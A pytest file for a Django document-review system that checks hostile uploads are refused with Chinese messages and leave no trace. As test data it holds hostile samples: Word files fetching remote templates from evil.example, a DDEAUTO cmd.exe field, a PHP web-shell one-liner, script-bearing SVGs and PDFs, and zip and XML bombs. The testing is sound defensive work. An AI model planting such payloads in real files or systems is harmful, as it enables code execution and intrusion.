"""恶意文件 wherever a file enters: attachments, Word import (new item and new revision), body pictures, pasted
pictures and seals. Each is refused with a Chinese message and stores nothing (no row, no audit entry, no file);
the body's pictures may show only the item's own stored pictures, and its links never lead into the back office."""

import base64
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from sanshen.accounts.admin import UnitForm
from sanshen.audit.models import AuditEntry
from sanshen.documents.tests.files import (
    BILLION_LAUGHS,
    HOSTILE_PDFS,
    docx_with_field,
    docx_with_member,
    docx_with_relationship,
    docx_with_template,
    hostile_pdf,
    plain_docx,
    png,
    png_declaring,
    zip_bomb_docx,
    zip_with,
)
from sanshen.review import attachments
from sanshen.review.exceptions import InvalidInput
from sanshen.review.models import Attachment, BodyImage, FindingRecord, Revision, Status, Submission
from sanshen.test import draft

from .helpers import general_item_at, message_texts

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
COPY = "请把内容复制到新建的空白文档中另存后再上传。"
UNLINK = "请在 Word 中全选(Ctrl+A)后按 Ctrl+Shift+F9 把域转换为普通文字，另存后再上传。"
REPRINT = "，打开时可能自动执行或夹带文件，已拒绝。请用“打印为 PDF”(WPS“输出为 PDF”)重新生成后再上传。"

# (file name, bytes, what inspect_upload says): one of each kind of hostile file.
HOSTILE = [
    ("模板.docx", lambda: docx_with_template("https://evil.example/t.dotm"),
     f"文件引用了网络上的模板(https://evil.example/t.dotm)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("图片.docx", lambda: docx_with_relationship("image", "http://evil.example/pixel.png"),
     f"文件引用了网络上的图片(http://evil.example/pixel.png)，打开时会自动联网获取，已拒绝。{COPY}"),
    ("对象.docx", lambda: docx_with_member("word/embeddings/oleObject1.bin", OLE),
     "文件嵌入了 OLE 对象(word/embeddings/oleObject1.bin)，可能含有可执行代码，已拒绝。请把嵌入的对象(如公式、文件包)改为图片后再上传。"),
    ("控件.docx", lambda: docx_with_member("word/activeX/activeX1.bin", OLE),
     "文件含有 ActiveX 控件(word/activeX/activeX1.bin)，可能含有可执行代码，已拒绝。请删除控件后再上传。"),
    ("宏.docx", lambda: docx_with_member("word/vbaProject.bin", OLE), "文件含有宏(VBA 代码)，不允许上传。请另存为不含宏的 .docx 或 .xlsx。"),
    ("域.docx", lambda: docx_with_field('INCLUDEPICTURE "http://evil.example/a.png" \\d'),
     f"文件含有联网获取内容的域代码(INCLUDEPICTURE http://evil.example/a.png)，打开时会自动联网，已拒绝。{UNLINK}"),
    ("域.docx", lambda: docx_with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
     f"文件含有 DDE 域代码(DDEAUTO)，打开时可能运行其他程序，已拒绝。{UNLINK}"),
    ("炸弹.docx", zip_bomb_docx, "文件解压后体积过大，疑似压缩炸弹，已拒绝。"),
    ("实体.docx", lambda: zip_with(plain_docx(), replace={"word/document.xml": BILLION_LAUGHS}),
     "文件部件 word/document.xml 含有 DTD 或实体声明，疑似恶意构造的文件(XML 炸弹)，已拒绝。"),
    ("脚本.pdf", lambda: hostile_pdf(HOSTILE_PDFS["open_action_javascript"]), f"PDF 含有脚本(JavaScript){REPRINT}"),
    ("启动.pdf", lambda: hostile_pdf(HOSTILE_PDFS["launch"]), f"PDF 含有启动外部程序的动作(Launch){REPRINT}"),
    ("夹带.pdf", lambda: hostile_pdf(HOSTILE_PDFS["embedded_file"]), f"PDF 含有嵌入文件{REPRINT}"),
    ("提交.pdf", lambda: hostile_pdf(HOSTILE_PDFS["submit_form"]), f"PDF 含有提交表单的动作(SubmitForm){REPRINT}"),
    ("图.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     "不允许上传 SVG 图片(可能含有脚本)，请另存为 PNG 或 JPG。"),
    ("照片.jsp.jpg", lambda: b"<%@ page import='java.io.*' %>", "不允许上传 .jsp 文件(文件名“照片.jsp.jpg”)。"),
    ("炸弹.png", lambda: png_declaring(100_000, 100_000), "图片像素过多，超过上限 40 百万像素。"),
    ("空.docx", lambda: b"", "文件是空的。"),
]


def _add_attachment(county, s, name, data):
    return attachments.add_attachment(s, county.drafter, name=name, data=data)


def _word_new(county, s, name, data):
    return attachments.create_from_word(county.drafter, name=name, data=data, column=county.column)


def _word_revision(county, s, name, data):
    return attachments.revise_from_word(s, county.drafter, name=name, data=data, base_revision=s.current_revision.number)


def _body_picture(county, s, name, data):
    return attachments.add_body_image(s, county.drafter, name=name, data=data)


ENTRY_POINTS = {"attachment": _add_attachment, "word_new": _word_new, "word_revision": _word_revision, "body_picture": _body_picture}


def _stored_files(settings) -> list[str]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def _everything(settings) -> tuple:
    """What a refused file must leave untouched: every row a file could have made, the audit log and the files."""
    return (
        Submission.objects.count(), Revision.objects.count(), Attachment.objects.count(), BodyImage.objects.count(),
        FindingRecord.objects.count(), AuditEntry.objects.count(), _stored_files(settings),
    )  # fmt: skip


@pytest.mark.parametrize("entry", sorted(ENTRY_POINTS))
@pytest.mark.parametrize("name, make, message", HOSTILE)
def test_a_hostile_file_is_refused_wherever_it_enters_and_stores_nothing(county, settings, entry, name, make, message):
    s = draft(county)
    before = _everything(settings)
    with pytest.raises(InvalidInput) as refused:
        ENTRY_POINTS[entry](county, s, name, make())
    assert refused.value.message == f"文件“{name}”未上传：{message}"
    assert _everything(settings) == before


@pytest.mark.parametrize(
    "data, message",
    [
        (b"<?php system($_GET['c']); ?>", "文件“粘贴的图片1.png”未上传：文件内容是服务器脚本(JSP/PHP/ASP)，不允许上传。"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "文件“粘贴的图片1.png”未上传：不允许上传 SVG 图片(可能含有脚本)，请另存为 PNG 或 JPG。"),
        (png_declaring(100_000, 100_000), "文件“粘贴的图片1.png”未上传：图片像素过多，超过上限 40 百万像素。"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 30, "文件“粘贴的图片1.png”未上传：图片已损坏或格式不受支持。"),
    ],
)
def test_a_hostile_pasted_picture_is_refused_and_stores_nothing(county, settings, data, message):
    s = draft(county)
    before = _everything(settings)
    body = f'<p>正文<img src="data:image/png;base64,{base64.b64encode(data).decode()}"></p>'
    for save in (
        lambda: attachments.save_with_pictures(s, county.drafter, title=s.title, body=body, base_revision=s.current_revision.number),
        lambda: attachments.create_with_pictures(county.drafter, title="新稿件", body=body, column=county.column),
    ):
        with pytest.raises(InvalidInput) as refused:
            save()
        assert refused.value.message == message
        assert _everything(settings) == before


def test_the_word_import_page_says_why_and_creates_nothing(county, client, settings):
    client.force_login(county.drafter)
    before = _everything(settings)
    post = {"target": f"column:{county.column.pk}", "grade": "general", "title": "",
            "docx": SimpleUploadedFile("模板.docx", docx_with_template("https://evil.example/t.dotm"))}  # fmt: skip
    r = client.post("/work/submissions/import/", post)
    assert r.status_code in (200, 400)
    assert f"文件“模板.docx”未上传：文件引用了网络上的模板(https://evil.example/t.dotm)，打开时会自动联网获取，已拒绝。{COPY}" in r.content.decode()
    assert _everything(settings) == before


def test_the_attachment_page_says_why_and_stores_nothing(county, client, settings):
    s = draft(county)
    client.force_login(county.drafter)
    before = _everything(settings)
    r = client.post(f"/work/submissions/{s.pk}/attachments/", {"file": SimpleUploadedFile("脚本.pdf", hostile_pdf(HOSTILE_PDFS["xfa"]))})
    assert message_texts(r) == [f"文件“脚本.pdf”未上传：PDF 含有XFA 动态表单{REPRINT}"]
    assert _everything(settings) == before


# ---------------------------------------------------------------------------------------------
# Pictures in the body: only the item's own


def _stored_picture(county, s) -> BodyImage:
    return attachments.add_body_image(s, county.drafter, name="现场.png", data=png(60, 40))


def test_a_picture_tag_cannot_make_a_viewer_export_the_item(county, client):
    """Issue 9: <img src="/work/submissions/1/export.docx"> made every viewer write a "Word exported" audit row."""
    client.force_login(county.drafter)
    body = '<p>通知</p><p><img src="/work/submissions/1/export.docx"><img src="/work/attachments/1/"><a href="https://zw.example.gov.cn/work/submissions/1/export.docx">附件</a></p>'
    r = client.post("/work/submissions/new/", {"title": "关于春耕的通知", "body": body, "target": f"column:{county.column.pk}", "grade": "general"})
    s = Submission.objects.get()
    assert r.status_code == 302
    assert s.body == "<p>通知</p><p>附件</p>"
    exports_before = AuditEntry.objects.filter(action__contains="export").count()
    page = client.get(f"/work/submissions/{s.pk}/").content.decode()
    assert "export.docx\"" not in page.replace(f"/work/submissions/{s.pk}/export.docx", "")
    assert AuditEntry.objects.filter(action__contains="export").count() == exports_before


@pytest.mark.parametrize("who", ["same unit, another item", "another unit"])
def test_a_body_may_not_show_another_items_picture(county, settings, who):
    other = draft(county, title="另一篇稿件")
    picture = _stored_picture(county, other)
    body = f'<p>正文</p><p><img src="{picture.url}"></p>'
    message = "正文中有 1 张图片不属于本稿件(可能是从其他稿件复制来的)，请删除后用“插入图片”重新插入。"
    if who == "another unit":
        s = attachments.create_with_pictures(county.outsider, title="茅坪镇稿件", body="<p>正文</p>", column=county.column)
        user = county.outsider
    else:
        s = draft(county)
        user = county.drafter
    before = _everything(settings)
    with pytest.raises(InvalidInput) as refused:
        attachments.save_with_pictures(s, user, title=s.title, body=body, base_revision=s.current_revision.number)
    assert (refused.value.code, refused.value.message) == ("foreign_picture", message)
    with pytest.raises(InvalidInput) as refused:
        attachments.create_with_pictures(user, title="新稿件", body=body, column=county.column)
    assert refused.value.message == message
    assert _everything(settings) == before


def test_a_body_keeps_its_own_pictures_and_newly_pasted_ones(county):
    s = draft(county)
    own = _stored_picture(county, s)
    pasted = base64.b64encode(png(30, 20, "red")).decode()
    body = f'<p><img src="{own.url}"></p><p><img src="data:image/png;base64,{pasted}"></p>'
    revision = attachments.save_with_pictures(s, county.drafter, title=s.title, body=body, base_revision=s.current_revision.number)
    new = BodyImage.objects.exclude(pk=own.pk).get()
    assert revision.body == f'<p><img src="{own.url}"></p><p><img src="{new.url}"></p>'
    assert new.submission == s


def test_the_edit_page_refuses_another_items_picture_and_keeps_what_was_typed(county, client):
    other = draft(county, title="另一篇稿件")
    picture = _stored_picture(county, other)
    s = draft(county)
    client.force_login(county.drafter)
    body = f'<p>我刚写的一段话</p><p><img src="{picture.url}"></p>'
    r = client.post(
        f"/work/submissions/{s.pk}/edit/",
        {"title": s.title, "body": body, "base_revision": s.current_revision.number, "target": f"column:{county.column.pk}", "grade": "general"},
    )
    page = r.content.decode()
    assert "正文中有 1 张图片不属于本稿件(可能是从其他稿件复制来的)，请删除后用“插入图片”重新插入。" in page
    assert "我刚写的一段话" in page
    s.refresh_from_db()
    assert s.revisions.count() == 1


# ---------------------------------------------------------------------------------------------
# Seals: any picture type is stored as PNG; the forms print it


def _jpeg_seal() -> bytes:
    from PIL import ImageDraw

    image = Image.new("RGB", (200, 200), "white")
    ImageDraw.Draw(image).ellipse((10, 10, 190, 190), outline=(200, 20, 20), width=12)
    out = io.BytesIO()
    image.save(out, "JPEG")
    return out.getvalue()


def _unit_form(unit, seal: SimpleUploadedFile) -> UnitForm:
    data = {f: getattr(unit, f) for f in ("name", "short_name", "kind", "code", "sort_order", "stage_limit_days") if getattr(unit, f) is not None}
    data.update({f: "on" for f in ("signs_on_paper", "main_leader_signs_all", "is_active") if getattr(unit, f)})
    return UnitForm(data, {"seal": seal}, instance=unit)


def test_a_jpeg_seal_is_stored_as_png(county):
    form = _unit_form(county.unit_a, SimpleUploadedFile("公章.jpg", _jpeg_seal(), content_type="image/jpeg"))
    assert form.is_valid(), form.errors
    unit = form.save()
    assert unit.seal.name.startswith("seals/") and unit.seal.name.endswith(".png")
    with unit.seal.open("rb") as f:
        seal = Image.open(io.BytesIO(f.read()))
    assert (seal.format, seal.mode, seal.getpixel((100, 100))[3]) == ("PNG", "RGBA", 0)


@pytest.mark.parametrize(
    "name, data, message",
    [
        # Django's own picture check speaks first for what Pillow cannot open at all
        ("公章.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
         "请上传一张有效的图片。您所上传的文件不是图片或者是已损坏的图片。"),
        ("公章.png", png_declaring(9000, 9000), "图片尺寸 9000×9000(81 百万像素)超过上限 40 百万像素。"),
    ],
)
def test_a_seal_that_is_not_a_safe_picture_is_refused(county, settings, name, data, message):
    kept = county.unit_a.seal.name
    before = _stored_files(settings)
    form = _unit_form(county.unit_a, SimpleUploadedFile(name, data))
    assert not form.is_valid()
    assert form.errors["seal"] == [message]
    county.unit_a.refresh_from_db()
    assert (county.unit_a.seal.name, _stored_files(settings)) == (kept, before)


@pytest.mark.parametrize("fmt, content_type", [("pdf", "application/pdf"), ("png", "image/png"), ("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")])
def test_the_forms_print_a_jpeg_seal_stored_before_seals_were_converted(county, client, fmt, content_type):
    """Issue 9: after a JPEG seal was uploaded, the unit's form PDF/PNG/docx answered 500."""
    from django.core.files.base import ContentFile

    county.unit_a.seal.save("legacy.jpg", ContentFile(_jpeg_seal()), save=True)
    s = general_item_at(county, Status.COUNTY_REVIEW)
    client.force_login(county.county_reviewer)
    r = client.get(f"/work/submissions/{s.pk}/form.{fmt}")
    assert (r.status_code, r["Content-Type"]) == (200, content_type)
